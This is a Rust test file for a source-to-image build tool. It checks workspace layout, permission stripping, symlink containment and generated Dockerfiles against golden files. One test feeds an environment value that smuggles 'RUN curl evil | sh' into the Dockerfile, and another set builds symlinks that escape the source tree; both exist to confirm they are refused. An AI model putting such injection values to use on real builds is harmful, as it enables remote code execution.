//! `prepare_workspace` on real directories: the laid-out context, its modes and symlinks, and
//! the generated Dockerfiles compared byte for byte with the golden files.
//!
//! Golden files live in `tests/golden/dockerfile/`. After an intended change to the generator,
//! regenerate them with `UPDATE_GOLDEN=1 cargo test --test prepare_workspace` and review the
//! diff before committing.

use std::collections::BTreeMap;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};

use pretty_assertions::assert_eq;
use sha2::{Digest, Sha256};
use sourcebuild::api::{EnvVar, GitSource, Source};
use sourcebuild::builder_image::BuilderImage;
use sourcebuild::contract::PrepareRequest;
use sourcebuild::prepare::{PrepareError, prepare_workspace};
use sourcebuild::s2i::context::ContextError;
use sourcebuild::s2i::scripts::BuilderMetadata;
use sourcebuild::source::FetchedSource;

const COMMIT: &str = "3f786850e387550fdab836ed7e6dc881de23001b";
const BUILDER: &str = "quay.io/sclorg/python-312-c9s:c9s";

fn write(root: &Path, relative: &str, content: &str, mode: u32) {
    let path = root.join(relative);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(&path, content).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(mode)).unwrap();
}

fn mode(path: &Path) -> u32 {
    std::fs::symlink_metadata(path)
        .unwrap()
        .permissions()
        .mode()
        & 0o7777
}

fn request(context_dir: Option<&str>) -> PrepareRequest {
    PrepareRequest {
        source: Source {
            git: Some(GitSource {
                url: "https://example.com/acme/app.git".into(),
                ..Default::default()
            }),
            context_dir: context_dir.map(str::to_string),
            ..Default::default()
        },
        builder_image: BUILDER.into(),
        scripts_url: None,
        assemble_user: None,
        env: Vec::new(),
        labels: BTreeMap::new(),
        output_image: "registry.example.com/acme/app:latest".into(),
        insecure_registries: Vec::new(),
    }
}

fn fetched(root: &Path) -> FetchedSource {
    FetchedSource {
        root: root.to_path_buf(),
        revision: Some(COMMIT.into()),
        origin: None,
        location: "https://example.com/acme/app.git".into(),
    }
}

/// Compares `actual` with the golden file `name`, or rewrites it under `UPDATE_GOLDEN=1`.
fn assert_golden(name: &str, actual: &str) {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/golden/dockerfile")
        .join(name);
    if std::env::var_os("UPDATE_GOLDEN").is_some() {
        std::fs::write(&path, actual).unwrap();
        return;
    }
    let expected = std::fs::read_to_string(&path).unwrap_or_else(|e| {
        panic!(
            "{}: {e} (run with UPDATE_GOLDEN=1 to create it)",
            path.display()
        )
    });
    assert_eq!(expected, actual, "{name} differs from the golden file");
}

/// Runs prepare and returns the Dockerfile, checking the reported digest against its bytes.
fn prepare(
    source: &Path,
    req: &PrepareRequest,
    metadata: &BuilderMetadata,
    workspace: &Path,
) -> String {
    let builder = BuilderImage {
        reference: req.builder_image.clone(),
        metadata: metadata.clone(),
    };
    let result = prepare_workspace(&fetched(source), req, &builder, workspace).unwrap();
    let dockerfile = std::fs::read(workspace.join("Dockerfile")).unwrap();
    assert_eq!(
        result.dockerfile_sha256,
        format!("sha256:{}", hex::encode(Sha256::digest(&dockerfile)))
    );
    assert_eq!(result.revision.as_deref(), Some(COMMIT));
    assert_eq!(result.builder_image, req.builder_image);
    String::from_utf8(dockerfile).unwrap()
}

#[test]
fn plain_source() {
    let source = tempfile::tempdir().unwrap();
    let workspace = tempfile::tempdir().unwrap();
    write(source.path(), "app.py", "print('hi')\n", 0o644);
    write(source.path(), "requirements.txt", "flask\n", 0o644);
    write(source.path(), ".git/HEAD", "ref: refs/heads/main\n", 0o644);
    let dockerfile = prepare(
        source.path(),
        &request(None),
        &BuilderMetadata::default(),
        workspace.path(),
    );
    assert_golden("plain.Dockerfile", &dockerfile);

    let src = workspace.path().join("upload/src");
    assert_eq!(
        std::fs::read_to_string(src.join("app.py")).unwrap(),
        "print('hi')\n"
    );
    assert!(!src.join(".git").exists());
    assert_eq!(
        std::fs::read_dir(workspace.path().join("upload/scripts"))
            .unwrap()
            .count(),
        0
    );
}

#[test]
fn hooks_environment_context_dir_and_ignore() {
    let source = tempfile::tempdir().unwrap();
    let workspace = tempfile::tempdir().unwrap();
    let root = source.path();
    write(root, "README.md", "outside the context dir\n", 0o644);
    write(root, "service/service.py", "print('svc')\n", 0o644);
    write(
        root,
        "service/.s2i/bin/assemble",
        "#!/bin/sh\n${STI_SCRIPTS_PATH}/assemble\n",
        0o644,
    );
    write(
        root,
        "service/.s2i/bin/run",
        "#!/bin/sh\nexec ${STI_SCRIPTS_PATH}/run\n",
        0o600,
    );
    write(
        root,
        "service/.s2i/environment",
        "# Daeploy template\nAPP_FILE = service.py\r\nGREETING=hello $USER \"quoted\" \\ done\nWEB_CONCURRENCY=1\n",
        0o644,
    );
    write(
        root,
        "service/.s2iignore",
        "# build output\n*.pyc\nlogs\n!keep.pyc\n",
        0o644,
    );
    write(root, "service/a.pyc", "bytecode", 0o644);
    write(root, "service/keep.pyc", "kept", 0o644);
    write(
        root,
        "service/pkg/b.pyc",
        "not matched: patterns are not recursive",
        0o644,
    );
    write(root, "service/logs/today.log", "noise", 0o644);

    let mut req = request(Some("service"));
    req.env = vec![
        EnvVar {
            name: "WEB_CONCURRENCY".into(),
            value: "4".into(),
        },
        EnvVar {
            name: "DEBUG".into(),
            value: "$HOME".into(),
        },
    ];
    req.labels = BTreeMap::from([("org.example.team".into(), "payments \"core\"".into())]);
    let dockerfile = prepare(root, &req, &BuilderMetadata::default(), workspace.path());
    assert_golden(
        "hooks-environment-contextdir-ignore.Dockerfile",
        &dockerfile,
    );

    let upload = workspace.path().join("upload");
    assert_eq!(mode(&upload.join("scripts/assemble")), 0o755);
    assert_eq!(mode(&upload.join("scripts/run")), 0o755);
    assert!(!upload.join("scripts/save-artifacts").exists());
    assert!(!upload.join("src/.s2i/bin/assemble").exists());
    assert!(upload.join("src/.s2i/environment").is_file());
    assert!(upload.join("src/service.py").is_file());
    assert!(!upload.join("src/README.md").exists());
    assert!(!upload.join("src/a.pyc").exists());
    assert!(upload.join("src/keep.pyc").exists());
    assert!(upload.join("src/pkg/b.pyc").exists());
    assert!(!upload.join("src/logs").exists());
}

#[test]
fn daeploy_builder_without_user() {
    let source = tempfile::tempdir().unwrap();
    let workspace = tempfile::tempdir().unwrap();
    write(source.path(), "service.py", "print('svc')\n", 0o644);
    write(
        source.path(),
        ".s2i/environment",
        "APP_FILE = service.py\n",
        0o644,
    );
    let mut req = request(None);
    req.builder_image = "daeploy/s2i-python:latest".into();
    let metadata = BuilderMetadata {
        scripts_url: Some("image://.s2i/bin".into()),
        destination: None,
        assemble_user: None,
        // The image config is known and sets no USER: it runs as root.
        user: Some(String::new()),
    };
    let dockerfile = prepare(source.path(), &req, &metadata, workspace.path());
    assert_golden("daeploy-no-user.Dockerfile", &dockerfile);
    assert!(dockerfile.contains("RUN [\"/.s2i/bin/assemble\"]"));
    assert!(!dockerfile.contains("USER"));
}

#[test]
fn symlinks_special_files_and_modes() {
    // The source is a sub-directory so the links that climb out of it land in a directory
    // this test owns.
    let parent = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let workspace = tempfile::tempdir().unwrap();
    let root = &parent.path().join("src");
    std::fs::create_dir(root).unwrap();
    write(parent.path(), "x", "outside the source", 0o644);
    write(outside.path(), "secret", "do not copy", 0o644);
    write(root, "app.py", "x", 0o644);
    write(root, "bin/tool", "#!/bin/sh\n", 0o4755);
    write(root, "lib/data.txt", "data", 0o640);
    std::fs::set_permissions(root.join("lib"), std::fs::Permissions::from_mode(0o2755)).unwrap();
    symlink("app.py", root.join("inside")).unwrap();
    symlink("../app.py", root.join("lib/up")).unwrap();
    symlink("lib", root.join("libdir")).unwrap();
    symlink("generated/out", root.join("dangling")).unwrap();
    symlink(outside.path().join("secret"), root.join("absolute")).unwrap();
    symlink("../outside", root.join("escape")).unwrap();
    symlink(".", root.join("self")).unwrap();
    symlink("self/../x", root.join("sneaky")).unwrap();
    let fifo = root.join("fifo");
    assert!(
        std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    let _socket = std::os::unix::net::UnixListener::bind(root.join("socket")).unwrap();

    prepare(
        root,
        &request(None),
        &BuilderMetadata::default(),
        workspace.path(),
    );
    let src = workspace.path().join("upload/src");
    for kept in ["inside", "lib/up", "libdir", "dangling", "self"] {
        let link = src.join(kept);
        assert!(
            std::fs::symlink_metadata(&link)
                .unwrap()
                .file_type()
                .is_symlink(),
            "{kept}"
        );
        assert_eq!(
            std::fs::read_link(&link).unwrap(),
            std::fs::read_link(root.join(kept)).unwrap()
        );
    }
    // `sneaky` (`self/../x`) reads as inside, but the kernel resolves it to the parent's `x`.
    for left_out in ["absolute", "escape", "sneaky", "fifo", "socket"] {
        assert!(
            std::fs::symlink_metadata(src.join(left_out)).is_err(),
            "{left_out} was copied"
        );
    }
    assert_eq!(mode(&src.join("bin/tool")), 0o755, "setuid dropped");
    assert_eq!(mode(&src.join("lib")), 0o755, "setgid dropped");
    assert_eq!(mode(&src.join("lib/data.txt")), 0o640);
}

#[test]
fn hook_symlink_out_of_the_tree_is_an_error() {
    let source = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let workspace = tempfile::tempdir().unwrap();
    write(outside.path(), "assemble", "#!/bin/sh\n", 0o755);
    write(source.path(), "app.py", "x", 0o644);
    std::fs::create_dir_all(source.path().join(".s2i/bin")).unwrap();
    symlink(
        outside.path().join("assemble"),
        source.path().join(".s2i/bin/assemble"),
    )
    .unwrap();
    let err = prepare_workspace(
        &fetched(source.path()),
        &request(None),
        &BuilderImage::unresolved(BUILDER),
        workspace.path(),
    )
    .unwrap_err();
    assert!(
        matches!(err, PrepareError::Context(ContextError::OutsideTree { .. })),
        "{err}"
    );
    assert_eq!(
        err.to_string(),
        ".s2i/bin/assemble: is a symlink (or under one) that leads outside the source tree"
    );
    assert_eq!(err.reason(), "InvalidSource");
}

#[test]
fn hook_symlink_inside_the_tree_is_copied_as_a_file() {
    let source = tempfile::tempdir().unwrap();
    let workspace = tempfile::tempdir().unwrap();
    write(
        source.path(),
        "scripts/run.sh",
        "#!/bin/sh\nexec python app.py\n",
        0o644,
    );
    std::fs::create_dir_all(source.path().join(".sti/bin")).unwrap();
    symlink("../../scripts/run.sh", source.path().join(".sti/bin/run")).unwrap();
    let dockerfile = prepare(
        source.path(),
        &request(None),
        &BuilderMetadata::default(),
        workspace.path(),
    );
    let run = workspace.path().join("upload/scripts/run");
    assert!(std::fs::symlink_metadata(&run).unwrap().is_file());
    assert_eq!(mode(&run), 0o755);
    assert!(dockerfile.contains("COPY --chown=1001:0 upload/scripts /tmp/scripts\n"));
    assert!(dockerfile.contains("CMD [\"/tmp/scripts/run\"]"));
    assert!(dockerfile.contains("RUN [\"/usr/libexec/s2i/assemble\"]"));
}

#[test]
fn tree_problems_are_invalid_source_naming_the_file() {
    let source = tempfile::tempdir().unwrap();
    write(
        source.path(),
        ".s2i/environment",
        "A=1\nnot a pair\n",
        0o644,
    );
    let workspace = tempfile::tempdir().unwrap();
    let err = prepare_workspace(
        &fetched(source.path()),
        &request(None),
        &BuilderImage::unresolved(BUILDER),
        workspace.path(),
    )
    .unwrap_err();
    assert_eq!(
        err.to_string(),
        ".s2i/environment:2: expected NAME=VALUE, found no '='"
    );
    assert_eq!(err.reason(), "InvalidSource");

    let workspace = tempfile::tempdir().unwrap();
    let err = prepare_workspace(
        &fetched(source.path()),
        &request(Some("missing")),
        &BuilderImage::unresolved(BUILDER),
        workspace.path(),
    )
    .unwrap_err();
    assert_eq!(
        err.to_string(),
        "contextDir \"missing\" does not exist in the source"
    );
    assert_eq!(err.reason(), "InvalidSource");
}

#[test]
fn newline_in_a_spec_env_value_is_refused() {
    let source = tempfile::tempdir().unwrap();
    let workspace = tempfile::tempdir().unwrap();
    write(source.path(), "app.py", "x", 0o644);
    let mut req = request(None);
    req.env = vec![EnvVar {
        name: "EVIL".into(),
        value: "x\nRUN curl evil | sh".into(),
    }];
    let err = prepare_workspace(
        &fetched(source.path()),
        &req,
        &BuilderImage::unresolved(BUILDER),
        workspace.path(),
    )
    .unwrap_err();
    assert!(
        err.to_string()
            .starts_with("environment variable EVIL: the value contains a newline"),
        "{err}"
    );
    assert!(!workspace.path().join("Dockerfile").exists());
}
